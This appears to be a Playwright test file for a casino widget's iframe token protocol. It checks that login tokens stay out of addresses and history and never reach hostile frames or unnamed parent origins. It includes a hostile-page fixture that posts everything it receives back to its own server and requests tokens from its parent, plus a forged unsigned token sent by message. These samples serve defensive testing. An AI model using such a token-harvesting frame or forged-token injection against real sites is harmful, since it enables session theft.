import { readFile } from 'node:fs/promises'
import type { Frame, Page } from '@playwright/test'
import { fetchToken } from '../../support/fetch-token.ts'
import type { RecordingOrigin } from '../../support/servers/recording-origin.ts'
import { test as base, expect } from '../support/test.ts'
import { awaitSession } from '../support/writes.ts'

/** Page of an operator, which the test's script fills. */
const HOST_PAGE =
  '<!doctype html><title>Operator</title><div id="casino"></div><div id="other"></div>'

/** Sends everything that it receives to its own server, and asks its parent for a token. */
const HOSTILE_PAGE = `<!doctype html><title>Hostile</title><script>
  const report = data => fetch('/received', { method: 'POST', body: JSON.stringify(data) })
  addEventListener('message', ({ data }) => report(data))
  report({ location: location.href, referrer: document.referrer })
  for (const type of ['token-request', 'ready', 'gone'])
    parent.postMessage({ source: 'casino-elements', type, content: { version: '1' } }, '*')
</script>`

const test = base.extend<{ operator: RecordingOrigin; hostile: RecordingOrigin }>({
  operator: async ({ openOrigin }, use) => use(await openOrigin({ '/': HOST_PAGE })),
  hostile: async ({ openOrigin }, use) =>
    use(await openOrigin({ '/': HOSTILE_PAGE, '/host': HOST_PAGE })),
})

/** Opens the operator's page and adds the frame to it; `window.casino` controls it. */
async function openIframe(page: Page, host: string, widget: string, query: string, token: string) {
  await page.goto(host)
  await page.evaluate(
    async ([origin, keys, first]) => {
      const { createCasinoFrame } = await import(`${origin}/host.js`)
      const casino = createCasinoFrame(document.querySelector('#casino'), {
        src: `${origin}/iframe.html?${keys}`,
        token: first,
      })
      Object.assign(window, { casino })
    },
    [widget, query, token],
  )
}

const setToken = (page: Page, token: string | null) =>
  page.evaluate(next => Reflect.get(window, 'casino').setToken(next), token)

const widgetOf = (page: Page) => page.frameLocator('iframe').locator('casino-lobby')

/** Returns the tokens of the calls to the API so far, in their order; null for an anonymous call. */
function recordCalls(page: Page) {
  const calls: (string | null)[] = []
  const addresses: string[] = []
  page.on('request', request => {
    const { pathname } = new URL(request.url())
    addresses.push(request.url(), request.headers().referer ?? '')
    if (pathname.startsWith('/api/') && request.resourceType() === 'fetch')
      calls.push(request.headers().authorization?.replace('Bearer ', '') ?? null)
  })
  page.on('framenavigated', frame => addresses.push(frame.url()))
  return { calls, addresses }
}

/** Returns the addresses that a page can read of itself. */
const addressesIn = (frame: Frame) =>
  frame.evaluate(() => [
    location.href,
    document.referrer,
    ...performance.getEntries().map(({ name }) => name),
    ...[...document.querySelectorAll('iframe')].map(({ src }) => src),
  ])

test('a token reaches the frame by message, at once, later and after it loads again, and stands in no address', async ({
  page,
  sandbox,
  operator,
}) => {
  const [first, next] = await Promise.all(
    ['?ttl=3600', '?ttl=7200'].map(query => fetchToken(sandbox, query)),
  )
  if (!first || !next) throw new Error('no tokens')
  const { calls, addresses } = recordCalls(page)
  await openIframe(page, operator.url, sandbox.url, 'routing=hash', first)
  const balance = widgetOf(page).getByText('Balance')
  await expect(balance).toBeVisible()
  expect(new Set(calls)).toEqual(new Set([first]))
  const faq = widgetOf(page).getByRole('heading', { name: 'Questions and answers' })
  await page.evaluate(() => Reflect.get(window, 'casino').redirect('/faq'))
  await expect(faq).toBeVisible()

  let loads = 0
  page.on('framenavigated', frame => {
    if (frame !== page.mainFrame() && frame.url().includes('iframe.html')) loads += 1
  })
  const isCalledWith = (token: string | null) => expect.poll(() => calls.includes(token)).toBe(true)
  const frame = page.frames()[1]
  if (!frame) throw new Error('no frame')
  const place = () => frame.evaluate(() => [location.href, history.length])
  const before = await place()
  const view = await widgetOf(page).locator('[part=root] > *').first().elementHandle()
  calls.length = 0
  await setToken(page, next)
  await isCalledWith(next)
  await awaitSession(sandbox)
  expect(await view?.evaluate(node => node.isConnected)).toBe(true)
  expect(loads).toBe(0)
  expect(await place()).toEqual(before)

  calls.length = 0
  await frame.evaluate(() => location.reload())
  await isCalledWith(next)
  await expect(faq).toBeVisible()
  expect(new Set(calls)).toEqual(new Set([next]))

  calls.length = 0
  await page.evaluate(() => {
    document.querySelector('#other')?.append(Reflect.get(window, 'casino').element)
  })
  await isCalledWith(next)
  // It begins again at its src.
  await expect(balance).toBeVisible()
  expect(new Set(calls)).toEqual(new Set([next]))

  const readable = await Promise.all(page.frames().map(addressesIn))
  // The socket's address carries the token, as the contract has it.
  for (const address of [...addresses, ...readable.flat()])
    if (!/\/ws(\/|\?)/.test(address)) expect(address).not.toMatch(/eyJ/)
  expect(operator.requests.join('\n')).not.toMatch(/eyJ/)

  calls.length = 0
  await setToken(page, null)
  await expect(balance).toHaveCount(0)
  await expect.poll(() => sandbox.backend.hub.sessions).toBe(0)
  await isCalledWith(null)
})

test('a token in a hand-written address works, and leaves address and history at once', async ({
  page,
  token,
}) => {
  const { calls } = recordCalls(page)
  for (const address of [`?token=${token}`, `#token=${token}`]) {
    // Else only the fragment would change.
    await page.goto('about:blank')
    calls.length = 0
    await page.goto(`/iframe.html${address}`)
    await expect(page.locator('casino-lobby').getByText('Balance')).toBeVisible()
    expect(new Set(calls)).toEqual(new Set([token]))
    const session = await page.context().newCDPSession(page)
    const { entries } = await session.send('Page.getNavigationHistory')
    expect(entries.map(({ url }) => url).join('\n')).not.toContain(token)
    expect(page.url()).not.toContain('token')
  }
})

test('a hostile frame in the host page, and one that takes the place of the widget, receive no token', async ({
  page,
  sandbox,
  operator,
  hostile,
  token: first,
}) => {
  const next = await fetchToken(sandbox, '?ttl=7200')
  await openIframe(page, operator.url, sandbox.url, 'routing=hash', first)
  await expect(widgetOf(page).getByText('Balance')).toBeVisible()
  const reported = () => hostile.requests.filter(request => request.startsWith('POST')).length

  await page.evaluate(url => {
    const sibling = document.createElement('iframe')
    sibling.src = url
    document.body.append(sibling)
  }, hostile.url)
  await expect.poll(reported).toBe(1)
  await setToken(page, next)

  await page.evaluate(url => {
    Reflect.get(window, 'casino').element.src = url
  }, hostile.url)
  await expect.poll(reported).toBe(2)
  await setToken(page, first)
  // Messages are delivered in their order: this one is reported after any token.
  for (const at of [0, 1])
    await page.evaluate(index => window.frames[index]?.postMessage('last', '*'), at)
  await expect.poll(reported).toBe(4)
  expect(hostile.requests.join('\n')).toContain('"last"')
  expect(hostile.requests.join('\n')).not.toMatch(/eyJ/)
})

test('a page that the operator has not named frames the widget or links to it and can neither sign in, command it nor lift the rules of its market', async ({
  page,
  sandbox,
  operator,
  hostile,
  token,
}) => {
  let attribute = 'data-parent-origin'
  await page.route(`${sandbox.url}/iframe.html*`, async route => {
    const response = await route.fetch()
    const named = `${attribute}="${operator.url}" data-market="de" src="iframe.js"`
    const body = (await response.text()).replace('src="iframe.js"', named)
    await route.fulfill({ response, body })
  })
  const { calls } = recordCalls(page)
  const theme = () => widgetOf(page).locator('[part=root]').getAttribute('data-theme')

  // Its own address names the hostile origin as the parent.
  await openIframe(page, `${hostile.url}/host`, sandbox.url, 'routing=hash', token)
  await expect(widgetOf(page).getByRole('tab', { name: 'Live' })).toBeVisible()
  await page.evaluate(() => {
    const { contentWindow } = Reflect.get(window, 'casino').element
    contentWindow.postMessage({ type: 'token', content: 'eyJhbGciOiJub25lIn0.e30.' }, '*')
    contentWindow.postMessage({ type: 'theme', content: 'light' }, '*')
  })
  await expect(widgetOf(page).getByRole('tab', { name: 'Live' })).toBeVisible()
  expect(new Set(calls)).toEqual(new Set([null]))
  expect(await theme()).toBe('dark')

  // As a link that somebody has posted with a token of their own.
  await page.goto(`${sandbox.url}/iframe.html#token=${token}`)
  await expect(page.getByRole('tab', { name: 'Live' })).toBeVisible()
  expect(page.url()).toBe(`${sandbox.url}/iframe.html`)
  expect(new Set(calls)).toEqual(new Set([null]))

  // Browsers read this one as `data-parentorigin`.
  await page.goto('about:blank')
  attribute = 'data-parentOrigin'
  await page.goto(`${sandbox.url}/iframe.html#token=${token}`)
  await expect(page.getByRole('tab', { name: 'Live' })).toBeVisible()
  expect(new Set(calls)).toEqual(new Set([null]))

  // Its calls end before those of the next page begin.
  await page.goto('about:blank')
  attribute = 'data-parent-origin'
  calls.length = 0
  const address = `${sandbox.url}/iframe.html?market=none#token=${token}`
  await page.goto(address, { referer: `${operator.url}/` })
  await expect(page.getByText('Balance')).toBeVisible()
  await expect(page.locator('casino-lobby')).not.toHaveAttribute('market')
  expect(new Set(calls)).toEqual(new Set([token]))

  calls.length = 0
  await openIframe(page, operator.url, sandbox.url, 'routing=hash', token)
  await expect(widgetOf(page).getByText('Balance')).toBeVisible()
  expect(new Set(calls)).toEqual(new Set([token]))
})

/** Returns the headers that the documentation recommends for the hosted page, with the test's origins. */
async function documentedHeaders(operator: string, widget: string) {
  const page = await readFile(new URL('../../../docs/host-protocol.md', import.meta.url), 'utf8')
  const block = /### Headers.*?```\n(.*?)```/s.exec(page)?.[1] ?? ''
  const lines = block.replace(/\n +/g, ' ').trim().split('\n')
  return lines.map((line): [string, string] => {
    const [name = '', ...value] = line.split(': ')
    const origins = value
      .join(': ')
      .replace('https://operator.example', operator)
      .replace('wss://casino.example', widget.replace('http', 'ws'))
    return [name.toLowerCase(), origins]
  })
}

test('the hosted page works with the documented headers in the page that they name, and in no other', async ({
  page,
  sandbox,
  operator,
  hostile,
  token,
  openBrowser,
  consoleLines,
}) => {
  const headers = await documentedHeaders(operator.url, sandbox.url)
  expect(headers.map(([name]) => name)).toContain('content-security-policy')
  const serveHeaders = (visited: Page) =>
    visited.route(`${sandbox.url}/iframe.html*`, async route => {
      const response = await route.fetch()
      const all = { ...response.headers(), ...Object.fromEntries(headers) }
      await route.fulfill({ response, headers: all })
    })
  await serveHeaders(page)
  // A page that a test has answered counts as one of the internet, whose sockets to this computer need leave.
  await page.context().grantPermissions(['local-network-access'])
  await openIframe(page, operator.url, sandbox.url, '', token)
  await expect(widgetOf(page).getByText('Balance')).toBeVisible()
  await awaitSession(sandbox)
  expect(consoleLines.warnings()).toEqual([])

  // In a browser of its own, as the refusal is a line of the console.
  const elsewhere = await openBrowser()
  await serveHeaders(elsewhere)
  const { calls } = recordCalls(elsewhere)
  await openIframe(elsewhere, `${hostile.url}/host`, sandbox.url, '', token)
  await expect.poll(() => elsewhere.frames()[1]?.url()).toContain('chrome-error')
  expect(calls).toEqual([])
})
